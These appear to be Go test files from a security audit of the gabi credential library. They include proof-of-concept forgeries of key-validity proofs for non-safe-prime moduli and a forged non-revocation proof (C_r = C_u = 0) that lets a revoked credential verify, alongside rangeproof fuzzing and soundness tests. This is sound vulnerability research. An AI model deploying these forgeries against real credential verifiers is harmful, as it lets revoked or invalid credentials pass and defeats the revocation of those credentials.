	d, a := new(big.Int).DivMod(new(big.Int).Add(commit.prea.secretv.secretv, aAdd), p, new(big.Int))
	if new(big.Int).GCD(nil, nil, a, p).Cmp(big.NewInt(1)) != 0 {
		panic("unlucky a, rerun")
	}
	list, commit.a = s.a.commitmentsFromSecrets(g, list, a)
	commit.preaMod = newSecret(g, strings.Join([]string{s.myname, "preamod"}, "_"), d)
	commit.preaHider = newSecret(g, strings.Join([]string{s.myname, "preahider"}, "_"),
		new(big.Int).Mod(new(big.Int).Sub(commit.prea.hider.secretv,
			new(big.Int).Add(commit.a.hider.secretv,
				new(big.Int).Mul(d, secretdata.Secret(strings.Join([]string{s.primeName, "hider"}, "_"))))), g.Order))

	// any unit will do as "non-residue witness"
	aneg := big.NewInt(2)
	list, commit.aneg = s.aneg.commitmentsFromSecrets(g, list, aneg)

	// claimed results: a^((p-1)/2) = 1 and aneg^((p-1)/2) = -1 -- both false in general
	aRes := big.NewInt(1)
	anegRes := big.NewInt(-1)
	list, commit.aRes = s.aRes.commitmentsFromSecrets(g, list, aRes)
	list, commit.anegRes = s.anegRes.commitmentsFromSecrets(g, list, anegRes)
	commit.aInvalid = fakeProof(g)
	commit.aInvalidChallenge = common.FastRandomBigInt(g.Order)
	commit.aValid = newSecret(g, strings.Join([]string{s.myname, "aresplus1hider"}, "_"), commit.aRes.hider.secretv)
	commit.aInvalid.setName(strings.Join([]string{s.myname, "aresmin1hider"}, "_"))
	commit.aPositive = true

	list, commit.halfP = s.halfP.commitmentsFromSecrets(g, list, new(big.Int).Rsh(p, 1))

	agenproof := zkproof.RepresentationProofStructure{
		Lhs: []zkproof.LhsContribution{
			{Base: commit.prea.name, Power: big.NewInt(1)},
			{Base: "g", Power: new(big.Int).Mod(aAdd, g.Order)},
			{Base: commit.a.name, Power: big.NewInt(-1)},
		},
		Rhs: []zkproof.RhsContribution{
			{Base: s.primeName, Secret: commit.preaMod.name, Power: 1},
			{Base: "h", Secret: commit.preaHider.name, Power: 1},
		},
	}
	agenrange := rangeProofStructure{agenproof, commit.preaMod.name, 0, s.bitlen}

	innerBases := zkproof.NewBaseMerge(&commit.prea, &commit.a, &commit.aneg, &commit.aRes, &commit.anegRes, &commit.halfP, bases)
	secrets := zkproof.NewSecretMerge(&commit.preaMod, &commit.preaHider, &commit.aValid, &commit.prea, &commit.a,
		&commit.aneg, &commit.aRes, &commit.anegRes, &commit.halfP, secretdata)

	list = s.halfPRep.CommitmentsFromSecrets(g, list, &innerBases, &secrets)
	list, commit.preaRangeCommit = s.preaRange.commitmentsFromSecrets(g, list, &innerBases, &secrets)
	list, commit.aRangeCommit = s.aRange.commitmentsFromSecrets(g, list, &innerBases, &secrets)
	list, commit.anegRangeCommit = s.anegRange.commitmentsFromSecrets(g, list, &innerBases, &secrets)
	list = agenproof.CommitmentsFromSecrets(g, list, &innerBases, &secrets)
	list, commit.preaModRangeCommit = agenrange.commitmentsFromSecrets(g, list, &innerBases, &secrets)
	list = s.anegResRep.CommitmentsFromSecrets(g, list, &innerBases, &secrets)
	list = s.aPlus1ResRep.CommitmentsFromSecrets(g, list, &innerBases, &secrets)
	list = s.aMin1ResRep.CommitmentsFromProof(g, list, commit.aInvalidChallenge, &innerBases, &commit.aInvalid)
	list, commit.aExpCommit = huntForgedExpCommit(&s.aExp, g, list, &innerBases, &secrets)
	list, commit.anegExpCommit = huntForgedExpCommit(&s.anegExp, g, list, &innerBases, &secrets)
	return list, commit
}

// square root modulo r^3 * q (r, q odd primes) of a unit x, if it exists
func huntSqrtPrimePower(x, r, q *big.Int) (*big.Int, bool) {
	r3 := new(big.Int).Exp(r, big.NewInt(3), nil)
	xr := new(big.Int).Mod(x, r)
	if xr.Sign() == 0 {
		return nil, false
	}
	s0, ok := common.PrimeSqrt(xr, r)
	if !ok {
		return nil, false
	}
	sq, ok := common.PrimeSqrt(new(big.Int).Mod(x, q), q)
	if !ok {
		return nil, false
	}
	// Newton / Hensel lifting modulo r^3
	s := new(big.Int).Set(s0)
	for range 3 {
		num := new(big.Int).Sub(new(big.Int).Mul(s, s), x)
		inv := new(big.Int).ModInverse(new(big.Int).Lsh(s, 1), r3)
		s.Sub(s, num.Mul(num, inv)).Mod(s, r3)
	}
	return common.Crt(s, r3, sq, q), true
}

func huntForgedASPP(r, Pprime, Qprime, challenge, index *big.Int, commit almostSafePrimeProductCommit) AlmostSafePrimeProductProof {
	proof := AlmostSafePrimeProductProof{Nonce: commit.nonce, Commitments: commit.commitments}
	N := new(big.Int).Mul(new(big.Int).Add(new(big.Int).Lsh(Pprime, 1), big.NewInt(1)), new(big.Int).Add(new(big.Int).Lsh(Qprime, 1), big.NewInt(1)))
	phiN := new(big.Int).Lsh(new(big.Int).Mul(Pprime, Qprime), 2)
	oddPhiN := new(big.Int).Mul(Pprime, Qprime)
	for i := range almostSafePrimeProductIters {
		curc := common.GetHashNumber(challenge, index, i, uint(2*N.BitLen()))
		log := new(big.Int).Mod(new(big.Int).Add(commit.logs[i], curc), phiN)
		x1 := new(big.Int).Mod(log, oddPhiN)
		x2 := new(big.Int).Sub(oddPhiN, x1)
		x3 := new(big.Int).Mod(new(big.Int).Mul(new(big.Int).ModInverse(big.NewInt(2), oddPhiN), x1), oddPhiN)
		x4 := new(big.Int).Sub(oddPhiN, x3)
		found := false
		for _, x := range []*big.Int{x1, x2, x3, x4} {
			if root, ok := huntSqrtPrimePower(x, r, Qprime); ok {
				proof.Responses = append(proof.Responses, root)
				found = true
				break
			}
		}
		if !found {
			panic("no root; rerun")
		}
	}
	return proof
}

func huntForgedKeyProof(s *ValidKeyProofStructure, r, Pprime, Qprime *big.Int) ValidKeyProof {
	primeSize := s.n.BitLen() + 2*rangeProofEpsilon + 10
	GroupPrime := findSafePrime(primeSize)
	g, _ := zkproof.BuildGroup(GroupPrime)

	P := new(big.Int).Add(new(big.Int).Lsh(Pprime, 1), big.NewInt(1))
	Q := new(big.Int).Add(new(big.Int).Lsh(Qprime, 1), big.NewInt(1))

	list, PprimeSecret := s.pprime.commitmentsFromSecrets(g, nil, Pprime)
	list, QprimeSecret := s.qprime.commitmentsFromSecrets(g, list, Qprime)
	list, PSecret := s.p.commitmentsFromSecrets(g, list, P)
	list, QSecret := s.q.commitmentsFromSecrets(g, list, Q)
	PQNRel := newSecret(g, "pqnrel", new(big.Int).Mod(new(big.Int).Mul(PSecret.hider.secretv, QSecret.secretv.secretv), g.Order))

	bases := zkproof.NewBaseMerge(&g, &PSecret, &QSecret, &PprimeSecret, &QprimeSecret)
	secrets := zkproof.NewSecretMerge(&PSecret, &QSecret, &PprimeSecret, &QprimeSecret, &PQNRel)

	var PprimeIsPrimeCommit, QprimeIsPrimeCommit primeProofCommit
	var QSPPcommit quasiSafePrimeProductCommit
	var BasesValidCommit isSquareProofCommit
	list = append(list, GroupPrime)
	list = append(list, s.n)
	list = s.pPprimeRel.CommitmentsFromSecrets(g, list, &bases, &secrets)
	list = s.qQprimeRel.CommitmentsFromSecrets(g, list, &bases, &secrets)
	list = s.pQNRel.CommitmentsFromSecrets(g, list, &bases, &secrets)
	list, PprimeIsPrimeCommit = huntForgedPrimeCommit(&s.pprimeIsPrime, g, list, &bases, &secrets) // forged
	list, QprimeIsPrimeCommit = s.qprimeIsPrime.commitmentsFromSecrets(g, list, &bases, &secrets)  // honest
	list, QSPPcommit = quasiSafePrimeProductBuildCommitments(list, Pprime, Qprime)
	list, BasesValidCommit = s.basesValid.commitmentsFromSecrets(g, list, P, Q)

	challenge := common.HashCommit(list, false)

	N := new(big.Int).Mul(P, Q)
	phiN := new(big.Int).Lsh(new(big.Int).Mul(Pprime, Qprime), 2)
	var qspp QuasiSafePrimeProductProof
	qspp.SFproof = squareFreeBuildProof(N, phiN, challenge, big.NewInt(0))
	qspp.PPPproof = primePowerProductBuildProof(P, Q, challenge, big.NewInt(1))
	qspp.DPPproof = disjointPrimeProductBuildProof(P, Q, challenge, big.NewInt(2))
	qspp.ASPPproof = huntForgedASPP(r, Pprime, Qprime, challenge, big.NewInt(3), QSPPcommit.asppCommit)

	return ValidKeyProof{
		GroupPrime:         GroupPrime,
		PQNRel:             PQNRel.buildProof(g, challenge),
		PProof:             s.p.buildProof(g, challenge, PSecret),
		QProof:             s.q.buildProof(g, challenge, QSecret),
		PprimeProof:        s.pprime.buildProof(g, challenge, PprimeSecret),
		QprimeProof:        s.qprime.buildProof(g, challenge, QprimeSecret),
		Challenge:          challenge,
		PprimeIsPrimeProof: s.pprimeIsPrime.buildProof(g, challenge, PprimeIsPrimeCommit, &secrets),
		QprimeIsPrimeProof: s.qprimeIsPrime.buildProof(g, challenge, QprimeIsPrimeCommit, &secrets),
		QSPPproof:          qspp,
		BasesValidProof:    s.basesValid.buildProof(g, challenge, BasesValidCommit),
	}
}

func TestHuntForgedKeyProofNonSafePrime(t *testing.T) {
	// q': honest safe-prime half
	// r : prime, P = 2 r^3 + 1 prime, with the residue conditions the Gennaro proofs need
	var r, Pprime, P, Qprime, Q, N *big.Int
	three, eight := big.NewInt(3), big.NewInt(8)
search:
	for {
		Qs, err := safeprime.Generate(64, nil)
		if err != nil {
			t.Fatal(err)
		}
		Q = Qs
		Qprime = new(big.Int).Rsh(Q, 1)
		for tries := 0; tries < 200000; tries++ {
			r = common.FastRandomBigInt(big.NewInt(1 << 21))
			r.Or(r, big.NewInt(1<<20|1))
			if !r.ProbablyPrime(20) || new(big.Int).Mod(r, three).Int64() != 2 {
				continue
			}
			Pprime = new(big.Int).Exp(r, three, nil)
			P = new(big.Int).Add(new(big.Int).Lsh(Pprime, 1), big.NewInt(1))
			if !P.ProbablyPrime(40) {
				continue
			}
			N = new(big.Int).Mul(P, Q)
			rm, qm := new(big.Int).Mod(r, eight).Int64(), new(big.Int).Mod(Qprime, eight).Int64()
			if new(big.Int).Mod(N, eight).Int64() != 5 || new(big.Int).Mod(N, three).Int64() != 1 || rm == 1 || qm == 1 || rm == qm {
				continue
			}
			break search
		}
	}
	t.Logf("r=%v  p'=r^3=%v  P=2p'+1=%v (prime: %v)  p' prime: %v  Q=%v  N=%v", r, Pprime, P, P.ProbablyPrime(40), Pprime.ProbablyPrime(40), Q, N)
	if Pprime.ProbablyPrime(40) || CanProve(Pprime, Qprime) {
		t.Fatal("test setup broken: key is good")
	}

	s := NewValidKeyProofStructure(N, []*big.Int{big.NewInt(36), big.NewInt(49)})
	proof := huntForgedKeyProof(&s, r, Pprime, Qprime)

	// through JSON, as a verifier would get it
	raw, err := json.Marshal(proof)
	if err != nil {
		t.Fatal(err)
	}
	var received ValidKeyProof
	if err := json.Unmarshal(raw, &received); err != nil {
		t.Fatal(err)
	}
	vs := NewValidKeyProofStructure(N, []*big.Int{big.NewInt(36), big.NewInt(49)})
	out := huntVerify(&vs, received)
	t.Logf("verifier on forged proof for N with (P-1)/2 = r^3: %s", out)
	if out == "ACCEPT" {
		t.Errorf("MISBEHAVIOUR: ValidKeyProofStructure.VerifyProof ACCEPTS a key proof for a modulus whose factor P is not a safe prime ((P-1)/2 = %v^3)", r)
	}
}
