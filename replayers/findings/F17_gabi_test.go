package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/revocation"
	"github.com/stretchr/testify/require"
)

// F17: a non-revocation proof with C_r = C_u = 0 makes all three reconstructed commitments 0 whatever the
// responses are (0 has no inverse mod n and ModInverse leaves it; cu^alpha = cr^alpha = 0). The holder of a
// REVOKED credential can attach such a proof, referring to the newest signed accumulator: the disclosure verifies.
func TestF17(t *testing.T) {
	witness, update, acc := setupRevocation(t, testPrivK, testPubK)
	attrs := revocationAttrs(witness)
	signature, err := SignMessageBlock(testPrivK, testPubK, attrs)
	require.NoError(t, err)
	cred := &Credential{Signature: signature, Pk: testPubK, Attributes: attrs, NonRevocationWitness: witness}

	// the issuer revokes the credential
	acc, event, err := acc.Remove(testPrivK, witness.E, update.Events[0])
	require.NoError(t, err)
	update, err = revocation.NewUpdate(testPrivK, acc, []*revocation.Event{event})
	require.NoError(t, err)
	require.Equal(t, revocation.ErrorRevoked, witness.Update(testPubK, update), "credential is revoked")

	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)

	// disclosure proof without non-revocation part, with a short randomizer for the revocation attribute so
	// that its response is found by revocationAttrIndex
	builder, err := cred.CreateDisclosureProofBuilder([]int{1, 2}, nil, false)
	require.NoError(t, err)
	revIdx := len(attrs) - 1
	builder.attrRandomizers[revIdx] = revocation.NewProofRandomizer()
	randomizers, err := NewProofRandomizers()
	require.NoError(t, err)
	list, err := builder.Commit(randomizers)
	require.NoError(t, err)

	// contributions of the forged non-revocation proof: C_r, C_u, nu and three commitments, all 0 except nu
	newest := update.SignedAccumulator
	list = append(list, big.NewInt(0), big.NewInt(0), acc.Nu, big.NewInt(0), big.NewInt(0), big.NewInt(0))
	challenge := createChallenge(context, nonce, list, false)
	proof := builder.CreateProof(challenge).(*ProofD)
	one := func() *big.Int { return big.NewInt(1) }
	proof.NonRevocationProof = &revocation.Proof{
		Cr: big.NewInt(0), Cu: big.NewInt(0),
		Responses:         map[string]*big.Int{"beta": one(), "delta": one(), "epsilon": one(), "zeta": one()},
		SignedAccumulator: &revocation.SignedAccumulator{Data: newest.Data, PKCounter: newest.PKCounter},
	}

	if (ProofList{proof}).Verify([]*gabikeys.PublicKey{testPubK}, context, nonce, false, nil) {
		t.Errorf("disclosure of a revoked credential with forged non-revocation proof (C_r = C_u = 0) verifies against the accumulator with index %d", acc.Index)
	}
}
