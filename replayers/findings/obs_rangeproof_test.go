package rangeproof_test

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
)

func huntRecover(t *testing.T, what string) {
	if r := recover(); r != nil {
		t.Errorf("PANIC in %s: %v", what, r)
	}
}

func huntWatchdog(t *testing.T, d time.Duration, what string, f func()) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer huntRecover(t, what)
		f()
	}()
	select {
	case <-done:
	case <-time.After(d):
		t.Errorf("HANG in %s (more than %v)", what, d)
	}
}

// --- splitters ---------------------------------------------------------------------------------------

func TestHuntFourSquaresSweep(t *testing.T) {
	sp := &rangeproof.FourSquaresSplitter{}
	check := func(n *big.Int) {
		huntWatchdog(t, 20*time.Second, "FourSquares.Split("+n.String()+")", func() {
			r, err := sp.Split(n)
			if err != nil {
				t.Errorf("split %v: %v", n, err)
				return
			}
			sum := new(big.Int)
			for _, x := range r {
				if x.Sign() < 0 {
					t.Errorf("negative root for %v", n)
				}
				sum.Add(sum, new(big.Int).Mul(x, x))
			}
			if sum.Cmp(n) != 0 {
				t.Errorf("split %v: squares sum to %v (%v)", n, sum, r)
			}
		})
	}
	for i := int64(0); i < 3000; i++ {
		check(big.NewInt(i))
	}
	for k := uint(0); k <= 256; k++ {
		p := new(big.Int).Lsh(big.NewInt(1), k)
		check(p)
		check(new(big.Int).Sub(p, big.NewInt(1)))
		check(new(big.Int).Add(p, big.NewInt(1)))
		check(new(big.Int).Mul(p, big.NewInt(7)))
		check(new(big.Int).Mul(p, big.NewInt(15)))
	}
	for i := 0; i < 200; i++ {
		r, _ := common.RandomBigInt(256)
		check(r)
	}
}

func TestHuntSquaresTableAllEntries(t *testing.T) {
	for _, limit := range []int64{0, 1, 2, 3, 4, 5, 10, 100, 1000, 4096} {
		tab := rangeproof.GenerateSquaresTable(limit)
		for i, e := range *tab {
			if len(e) != 3 {
				t.Errorf("GenerateSquaresTable(%d): entry %d (of %d, documented: up to and including limit) is %v", limit, i, len(*tab), e)
				continue
			}
			if e[0]*e[0]+e[1]*e[1]+e[2]*e[2] != 4*int64(i)+2 {
				t.Errorf("limit %d entry %d wrong", limit, i)
			}
		}
		// everything Split accepts must be correct
		for v := int64(-3); v < 4*limit+10; v++ {
			func() {
				defer huntRecover(t, fmt.Sprintf("table(%d).Split(%d)", limit, v))
				r, err := tab.Split(big.NewInt(v))
				if err != nil {
					return
				}
				s := new(big.Int)
				for _, x := range r {
					s.Add(s, new(big.Int).Mul(x, x))
					if x.BitLen() > int(tab.Ld()) {
						t.Errorf("limit %d: root %v of %d longer than Ld %d", limit, x, v, tab.Ld())
					}
				}
				if s.Int64() != v {
					t.Errorf("limit %d split %d wrong: %v", limit, v, r)
				}
			}()
		}
	}
}

func TestHuntSquaresTableNegativeLimit(t *testing.T) {
	defer huntRecover(t, "GenerateSquaresTable(-2)")
	rangeproof.GenerateSquaresTable(-2)
}

func TestHuntSquaresTableJSON(t *testing.T) {
	tab := rangeproof.GenerateSquaresTable(40)
	bts, err := json.Marshal(tab)
	if err != nil {
		t.Fatal(err)
	}
	var back rangeproof.SquaresTable
	if err = json.Unmarshal(bts, &back); err != nil {
		t.Fatal(err)
	}
	for _, v := range []int64{2, 6, 10, 38} {
		a, err1 := tab.Split(big.NewInt(v))
		b, err2 := back.Split(big.NewInt(v))
		if (err1 == nil) != (err2 == nil) || fmt.Sprint(a) != fmt.Sprint(b) {
			t.Errorf("round trip differs for %d: %v %v / %v %v", v, a, err1, b, err2)
		}
	}

	// tampered tables: decodable JSON
	for _, js := range []string{`[null,null,null,null,null,null,null]`, `[[1,1],[1],[],[1,1],[1,1],[1,1],[1,1]]`} {
		var tt rangeproof.SquaresTable
		if err := json.Unmarshal([]byte(js), &tt); err != nil {
			t.Fatal(err)
		}
		func() {
			defer huntRecover(t, "Split on table "+js)
			_, err := tt.Split(big.NewInt(2))
			t.Logf("table %s: Split(2) err=%v", js, err)
		}()
	}
}

// a tampered table with wrong roots: does the holder notice, or does it produce an invalid proof?
func TestHuntSquaresTableWrongEntry(t *testing.T) {
	g := setupPubkey(t)
	tab := rangeproof.GenerateSquaresTable(100)
	(*tab)[0] = []int64{1, 2, 3} // 14 instead of 2
	s, err := rangeproof.NewProofStructure(1, 1, 1, big.NewInt(45), tab)
	if err != nil {
		t.Fatal(err)
	}
	m := big.NewInt(45)
	mr, _ := common.RandomBigInt(g.Params.LmCommit)
	defer huntRecover(t, "wrong entry")
	list, commit, err := s.CommitmentsFromSecrets(g, m, mr)
	if err != nil {
		t.Logf("noticed: %v", err)
		return
	}
	c := big.NewInt(123456)
	p := s.BuildProof(commit, c)
	list2 := s.CommitmentsFromProof(g, p, c)
	if fmt.Sprint(list) != fmt.Sprint(list2) {
		t.Errorf("tampered table entry: no error from CommitmentsFromSecrets, proof does not verify")
	}
}

// --- soundness on the level of the package -----------------------------------------------------------

// A proof for an index that the key does not have.
func TestHuntIndexOutsideKey(t *testing.T) {
	g := setupPubkey(t)
	mk := func(seed int64) *rangeproof.Proof {
		b := func(i int64) *big.Int { return big.NewInt(seed*1000 + i) }
		return &rangeproof.Proof{
			Cs:         []*big.Int{b(1), b(2), b(3), b(4)},
			DResponses: []*big.Int{b(5), b(6), b(7), b(8)},
			VResponses: []*big.Int{b(9), b(10), b(11), b(12)},
			V5Response: b(13),
			MResponse:  b(14),
			Ld:         128, Sign: 1, A: 1, K: big.NewInt(1000000),
		}
	}
	for _, index := range []int{len(g.R), len(g.R) + 5, -1} {
		func() {
			defer huntRecover(t, fmt.Sprintf("index %d", index))
			p1, p2 := mk(1), mk(2)
			s1, err := p1.ExtractStructure(index, g)
			if err != nil {
				t.Logf("index %d rejected by ExtractStructure: %v", index, err)
				return
			}
			s2, _ := p2.ExtractStructure(index, g)
			if !s1.VerifyProofStructure(g, p1) {
				t.Logf("index %d rejected by VerifyProofStructure", index)
				return
			}
			c := big.NewInt(987654321)
			l1 := s1.CommitmentsFromProof(g, p1, c)
			l2 := s2.CommitmentsFromProof(g, p2, c)
			t.Logf("index %d: %v", index, l1)
			if fmt.Sprint(l1) == fmt.Sprint(l2) {
				t.Errorf("index %d outside the key (%d bases): structure extracted, proof structure accepted, and two unrelated garbage proofs give the same commitments %v: the hash does not depend on the proof", index, len(g.R), l1)
			}
		}()
	}
}

// --- helpers ----------------------------------------------------------------------------------------

func TestHuntProvesHelpersNil(t *testing.T) {
	p := &rangeproof.Proof{Cs: make([]*big.Int, 4), Sign: 1, A: 1, K: big.NewInt(5)}
	func() {
		defer huntRecover(t, "Proves(nil)")
		if p.Proves(nil) {
			t.Errorf("proves nil")
		}
	}()
	func() {
		defer huntRecover(t, "ProvesStatement(nil bound)")
		if p.ProvesStatement(1, 1, nil) {
			t.Errorf("proves nil bound")
		}
	}()
	func() {
		defer huntRecover(t, "Proves(statement without bound)")
		if p.Proves(&rangeproof.Statement{Sign: 1, Factor: 1}) {
			t.Errorf("proves nil bound")
		}
	}()
	q := &rangeproof.Proof{Cs: make([]*big.Int, 4), Sign: 1, A: 1}
	func() {
		defer huntRecover(t, "ProvesStatement on proof without K")
		q.ProvesStatement(1, 1, big.NewInt(1))
	}()
	func() {
		defer huntRecover(t, "ProvenStatement on proof without K")
		q.ProvenStatement()
	}()
}

func TestHuntProvesImplication(t *testing.T) {
	type tc struct {
		cs      int
		psign   int
		pa      uint
		pk      int64
		sign    int
		factor  uint
		bound   int64
		implied bool // mathematically, for every integer m
		name    string
	}
	cases := []tc{
		{4, 1, 1, 10, 1, 1, 10, true, "equal"},
		{4, 1, 1, 10, 1, 1, 9, true, "weaker"},
		{4, 1, 1, 10, 1, 1, 11, false, "stronger"},
		{4, 1, 1, 10, -1, 1, 10, false, "other sign"},
		{4, -1, 1, 10, -1, 1, 11, true, "weaker le"},
		{4, -1, 1, 10, -1, 1, 9, false, "stronger le"},
		{4, 1, 1, -10, 1, 1, -11, true, "negative weaker"},
		{4, 1, 1, -10, 1, 1, -9, false, "negative stronger"},
		{4, -1, 1, -10, -1, 1, -9, true, "negative weaker le"},
		{4, -1, 1, -10, -1, 1, -11, false, "negative stronger le"},
		{4, 1, 1, 10, 1, 2, 20, true, "scaled by 2"},
		{4, 1, 2, 20, 1, 1, 10, true, "scaled down by 2"},
		{4, 1, 2, 19, 1, 1, 10, true, "2m>=19 implies m>=10"},
		{4, 1, 0, -1, 1, 1, 0, false, "factor 0 proof, says nothing about m"},
		{3, 1, 4, 38, 1, 1, 10, true, "three squares equal"},
		{3, 1, 4, 38, 1, 1, 11, false, "three squares stronger"},
		{3, 1, 4, 39, 1, 1, 10, true, "three squares odd k"},
		{3, 1, 4, 41, 1, 1, 11, true, "4m>=41 implies m>=11"},
		{3, -1, 4, 38, -1, 1, 9, true, "4m<=38 implies m<=9"},
		{3, -1, 4, 38, -1, 1, 10, true, "three squares le as built"},
		{3, -1, 4, 38, -1, 1, 8, false, "three squares le stronger"},
		{3, -1, 4, 39, -1, 1, 9, true, "4m<=39 implies m<=9"},
		{3, -1, 4, 40, -1, 1, 9, false, "4m<=40 does not imply m<=9"},
	}
	for _, c := range cases {
		p := &rangeproof.Proof{Cs: make([]*big.Int, c.cs), Sign: c.psign, A: c.pa, K: big.NewInt(c.pk)}
		got := p.ProvesStatement(c.sign, c.factor, big.NewInt(c.bound))
		if got && !c.implied {
			t.Errorf("UNSOUND %s: proof (%d squares, sign %d, a %d, k %d) reported to prove sign %d factor %d bound %d", c.name, c.cs, c.psign, c.pa, c.pk, c.sign, c.factor, c.bound)
		}
		if !got && c.implied {
			t.Logf("incomplete %s: proof (%d squares, sign %d, a %d, k %d) not reported to prove sign %d factor %d bound %d", c.name, c.cs, c.psign, c.pa, c.pk, c.sign, c.factor, c.bound)
		}
	}
	// the statement reported by ProvenStatement must follow from what is proven, for every k
	selfMismatch := 0
	defer func() {
		if selfMismatch > 0 {
			t.Logf("%d (squares, sign, k) combinations in all where Proves(ProvenStatement()) is false", selfMismatch)
		}
	}()
	for cs := 3; cs <= 4; cs++ {
		for _, sign := range []int{1, -1} {
			for k := int64(-40); k <= 40; k++ {
				a := uint(1)
				if cs == 3 {
					a = 4
				}
				p := &rangeproof.Proof{Cs: make([]*big.Int, cs), Sign: sign, A: a, K: big.NewInt(k)}
				typ, f, b := p.ProvenStatement()
				s, _ := typ.Sign()
				if s != sign {
					t.Errorf("sign")
				}
				for m := int64(-50); m <= 50; m++ {
					proven := int64(sign)*(int64(a)*m-k) >= 0
					reported := int64(sign)*(int64(f)*m-b.Int64()) >= 0
					if proven && !reported {
						t.Errorf("UNSOUND ProvenStatement: %d squares sign %d k %d: m=%d satisfies the proven relation but not the reported one (factor %d bound %v)", cs, sign, k, m, f, b)
						break
					}
				}
				if !p.ProvesStatement(sign, f, b) {
					selfMismatch++
					if selfMismatch == 1 {
						t.Errorf("proof does not prove its own ProvenStatement, first example: %d squares sign %d a %d k %d -> factor %d bound %v", cs, sign, a, k, f, b)
					}
				}
			}
		}
	}
}

// --- completeness on the level of the package --------------------------------------------------------

func huntRoundTrip(t *testing.T, name string, index, sign int, factor uint, bound, m *big.Int, split rangeproof.SquareSplitter) {
	g := setupPubkey(t)
	huntWatchdog(t, 60*time.Second, name, func() {
		s, err := rangeproof.NewProofStructure(index, sign, factor, bound, split)
		if err != nil {
			t.Errorf("%s: NewProofStructure: %v", name, err)
			return
		}
		mr, _ := common.RandomBigInt(g.Params.LmCommit)
		list, commit, err := s.CommitmentsFromSecrets(g, m, mr)
		if err != nil {
			t.Errorf("%s: CommitmentsFromSecrets: %v", name, err)
			return
		}
		c, _ := common.RandomBigInt(g.Params.Lh)
		p := s.BuildProof(commit, c)
		if !s.VerifyProofStructure(g, p) {
			t.Errorf("%s: own structure rejects proof", name)
		}
		// via JSON, as a verifier sees it
		var p2 rangeproof.Proof
		bts, err := json.Marshal(p)
		if err != nil {
			t.Errorf("%s: marshal: %v", name, err)
			return
		}
		if err = json.Unmarshal(bts, &p2); err != nil {
			t.Errorf("%s: unmarshal: %v", name, err)
			return
		}
		p2.MResponse = p.MResponse
		s2, err := p2.ExtractStructure(index, g)
		if err != nil {
			t.Errorf("%s: ExtractStructure: %v", name, err)
			return
		}
		if !s2.VerifyProofStructure(g, &p2) {
			t.Errorf("%s: extracted structure rejects proof", name)
			return
		}
		list2 := s2.CommitmentsFromProof(g, &p2, c)
		if fmt.Sprint(list) != fmt.Sprint(list2) {
			t.Errorf("%s: commitments differ", name)
		}
		if !p2.ProvesStatement(sign, factor, bound) {
			t.Errorf("%s: proof not reported to prove the statement", name)
		}
		typ, f, b := p2.ProvenStatement()
		sg, _ := typ.Sign()
		if sg != sign || f != factor || b.Cmp(bound) != 0 {
			t.Errorf("%s: ProvenStatement %d %d %v", name, sg, f, b)
		}
	})
}

func TestHuntCompletenessFourSquares(t *testing.T) {
	two256 := new(big.Int).Lsh(big.NewInt(1), 256)
	max := new(big.Int).Sub(two256, big.NewInt(1))
	huntRoundTrip(t, "m=b", 1, 1, 1, big.NewInt(100), big.NewInt(100), nil)
	huntRoundTrip(t, "m=b le", 1, -1, 1, big.NewInt(100), big.NewInt(100), nil)
	huntRoundTrip(t, "m=0,b=0", 1, 1, 1, big.NewInt(0), big.NewInt(0), nil)
	huntRoundTrip(t, "m=0,b=0 le", 1, -1, 1, big.NewInt(0), big.NewInt(0), nil)
	huntRoundTrip(t, "b=0", 2, 1, 1, big.NewInt(0), big.NewInt(123456789), nil)
	huntRoundTrip(t, "max>=0", 2, 1, 1, big.NewInt(0), max, nil)
	huntRoundTrip(t, "max>=max", 2, 1, 1, max, max, nil)
	huntRoundTrip(t, "0<=max", 2, -1, 1, max, big.NewInt(0), nil)
	huntRoundTrip(t, "0<=2^256", 2, -1, 1, two256, big.NewInt(0), nil)
	huntRoundTrip(t, "factor 3", 3, 1, 3, big.NewInt(299), big.NewInt(100), nil)
	huntRoundTrip(t, "factor 3 le", 3, -1, 3, big.NewInt(301), big.NewInt(100), nil)
	huntRoundTrip(t, "factor 3 max", 3, 1, 3, new(big.Int).Mul(max, big.NewInt(3)), max, nil)
	huntRoundTrip(t, "factor 3 max diff", 3, 1, 3, new(big.Int).Mul(max, big.NewInt(2)), max, nil)
	huntRoundTrip(t, "factor maxint64", 3, 1, 1<<63-1, big.NewInt(5), big.NewInt(1), nil)
	huntRoundTrip(t, "factor 0", 3, 1, 0, big.NewInt(0), big.NewInt(1), nil)
	huntRoundTrip(t, "index 0", 0, 1, 1, big.NewInt(5), big.NewInt(7), nil)
	huntRoundTrip(t, "index 5", 5, 1, 1, big.NewInt(5), big.NewInt(7), nil)
	for d := int64(0); d < 40; d++ {
		huntRoundTrip(t, fmt.Sprintf("diff %d", d), 1, 1, 1, big.NewInt(1000), big.NewInt(1000+d), nil)
	}
}

func TestHuntCompletenessNegativeBoundInMemory(t *testing.T) {
	g := setupPubkey(t)
	for _, split := range []rangeproof.SquareSplitter{nil, rangeproof.GenerateSquaresTable(4096)} {
		s, err := rangeproof.NewProofStructure(1, 1, 1, big.NewInt(-5), split)
		if err != nil {
			t.Fatal(err)
		}
		mr, _ := common.RandomBigInt(g.Params.LmCommit)
		list, commit, err := s.CommitmentsFromSecrets(g, big.NewInt(3), mr)
		if err != nil {
			t.Errorf("negative bound: %v", err)
			continue
		}
		c, _ := common.RandomBigInt(g.Params.Lh)
		p := s.BuildProof(commit, c)
		s2, err := p.ExtractStructure(1, g)
		if err != nil {
			t.Errorf("negative bound: %v", err)
			continue
		}
		if !s2.VerifyProofStructure(g, p) || fmt.Sprint(s2.CommitmentsFromProof(g, p, c)) != fmt.Sprint(list) {
			t.Errorf("negative bound: does not verify")
		}
		if !p.ProvesStatement(1, 1, big.NewInt(-5)) {
			t.Errorf("negative bound: not proven")
		}
		_, _, b := p.ProvenStatement()
		if b.Int64() != -5 {
			t.Errorf("negative bound: ProvenStatement bound %v", b)
		}
	}
}

func TestHuntCompletenessTable(t *testing.T) {
	limit := int64(4096)
